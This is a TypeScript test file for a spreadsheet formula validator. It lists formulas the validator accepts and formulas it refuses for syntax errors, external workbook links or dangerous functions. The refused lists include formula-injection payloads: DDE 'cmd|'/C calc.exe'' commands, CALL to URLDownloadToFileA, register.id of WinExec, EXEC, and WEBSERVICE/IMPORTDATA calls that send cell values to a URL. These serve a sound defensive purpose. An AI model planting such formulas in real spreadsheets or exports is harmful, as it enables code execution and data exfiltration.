import { expect, it } from 'vitest';
import { type FormulaFault, formulaFault } from './formula-grammar.ts';

const whole = String.raw`1
-1.5E3%+.5
A1
A1:B2 + $C$3
A1:INDEX(B:B,3)
A1:Sheet2!B1
OFFSET(A1,1,0):B5
SUM(A1:B2 B1:C3)
SUM((A1,B2:C3, D4))
NOW()+RAND()
OwnFunction()
IF(A1,,)
IF( A1 >= 2 , "a ""b""" , 'It''s | this'!C3 )
--A1<>-B1
A1&" x"&B1^2^-3
A1#
@A1:A3
SUM(A1#)
{1,2;3,4}
SUM({-1,+2,TRUE;"a",#N/A,#DIV/0!})*2
{ 1 , 2 }
#N/A
#N/A/2
#REF!
Sheet1!#REF!+#REF!A1
SUM(#REF!,A1)
Jan:Mar!B2
'Jan 1:Mar 1'!B2
SUM(A:A,$1:$3)
Rate*Sheet1!Rate
Table1[]
Table1[Qty]
Table1[Unit Price]
SUM(Table1[[#This Row],[A '[1'']],Table1[[#All],[A]:[B]],Table1[#Headers])
_xlfn.STDEV.S(A1:A9)
_xlfn.LET(_xlpm.x,1,_xlpm.x+1)
_xlfn.LAMBDA(_xlpm.x,_xlpm.x+1)(5)
(_xlfn.LAMBDA(_xlpm.x,_xlpm.x+1))(5)
_xlfn.BYROW(A1:B2,_xleta.SUM)
HYPERLINK("https://example.com/","there")
数据!A1+销售额*2
CALLS(1)+Register+Image
LOG10(A1)
[0]!Rate
[0]!Own(1)
 A1 `.split('\n');

it.each(whole)('takes %s', (formula) => {
  expect(formulaFault(formula, 0)).toBeUndefined();
});

const refused: Partial<Record<FormulaFault, string>> = {
  syntax: String.raw`
SUM(
SUM( )
_xlfn.CONCAT()
1+
)
()
A1:
{1,2
{1,2;3}
{}
{1,}
{A1}
{1+1}
1 2
A1 "a"
"a" A1
A1 1:
"a":A1
A1:1
A1:-B1
*A1
A1**B1
A1< >B1
A1 = = B1
(1,2)
A1,B1
(A1,)
SUM(1;2)
SUM(1-)
SUM(-)
SUM(1)2
SUM(A1))
(A1
A1~B1
A1 #
1#
#NOPE!
#N/Ab
@
A1:@B1
Sheet1!+A1
Sheet1!(A1)
Sheet1! A1
Sheet1!"a"
!A1
[Qty]
[@Qty]
Table1[@Qty]
Table1[#Nothing]
Table1[[A],]
Table1[A][B]
"open
a"b
_xlfn._x0057_EBSERVICE(A1)
"a_x0022_&CALL(A1)&_x0022_"
§`,
  outside: String.raw`[1]Sheet1!A1
SUM('[1]A b'!A1)
[1]!Name
[book.xlsx]Sheet1!A1
'C:\data\[book.xlsx]Sheet1'!A1
'C:\data\book.xlsx'!Name
'https://example.com/[a.xlsx]S'!A1
'https://example.com/a.xlsx'!A1
'a:b:c'!A1
''!A1
a\b!A1
cmd|'/C calc.exe'!A0
1+cmd|'/C calc.exe'!A0
cmd|x!y`,
  function: `CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"https://example.com/","x",0,0)
1+register.id("kernel32","WinExec")
SUM(1,WEBSERVICE("https://example.com/"&A1))
_xlfn.WEBSERVICE(A1)
_xlfn._xlws.WEBSERVICE(A1)
WEBSERVICE (A1)
_xlfn.BYROW(A1:B2,_xleta.WEBSERVICE)
_xlfn.IMAGE("https://example.com/x.png")
RTD("a",,"b")
DDE("soffice","x","y")
Sheet1!CALL("a","b")
EXEC("calc.exe")
EVALUATE(A1)
GET.CELL(5,A1)
_xlfn._xlws.PY(0,0)
_xlfn.IMPORTCSV("https://example.com/a.csv")
IMPORTDATA("https://example.com/?"&A1)
IFERROR(__xludf.DUMMYFUNCTION("IMPORTXML(""https://example.com/"",""//a"")"),1)`,
};

it.each(Object.entries(refused).flatMap(([fault, list]) => list.split('\n').map((formula) => [formula, fault] as const)))(
  'refuses %s for its %s',
  (formula, fault) => {
    expect(formulaFault(formula, 0)).toBe(fault);
  },
);

it('takes the links that the workbook has', () => {
  expect(["[2]Sheet1!A1+'[1]A b:C d'!B2", '[2]!Name', '[3]Sheet1!A1', "'[1]a/b'!A1"].map((formula) => formulaFault(formula, 2))).toEqual([
    undefined,
    undefined,
    'outside',
    'outside',
  ]);
});

it('bounds calls in calls, brackets, arguments and signs', () => {
  const calls = (count: number): string => `${'ABS('.repeat(count)}1${')'.repeat(count)}`;
  const brackets = (count: number): string => `${'('.repeat(count)}1${')'.repeat(count)}`;
  const values = (count: number): string => `SUM(${Array.from({ length: count }, () => '1').join()})`;
  const signs = (count: number): string => `${'-'.repeat(count - 1)}1`;
  for (const [make, most] of [
    [calls, 64],
    [brackets, 256],
    [values, 255],
    [signs, 8192],
  ] as const)
    expect([formulaFault(make(most), 0), formulaFault(make(most + 1), 0)]).toEqual([undefined, 'bounds']);
  // those beside each other are not in each other
  expect(formulaFault(Array.from({ length: 200 }, () => 'ABS(1)').join('+'), 0)).toBeUndefined();
});

it.each(['{1}+', '{1,', 'a ', 'a    ', 'F(', '-', '(', 'a!b:', "'a:b'!", 'T[[a],', '"a"&', 'A1 '])(
  'reads %s again and again as fast as anything',
  (piece) => {
    const text = piece.repeat(Math.floor(8192 / piece.length));
    const start = performance.now();
    for (let time = 0; time < 20; time++) formulaFault(text, 0);
    expect(performance.now() - start).toBeLessThan(2000);
  },
);
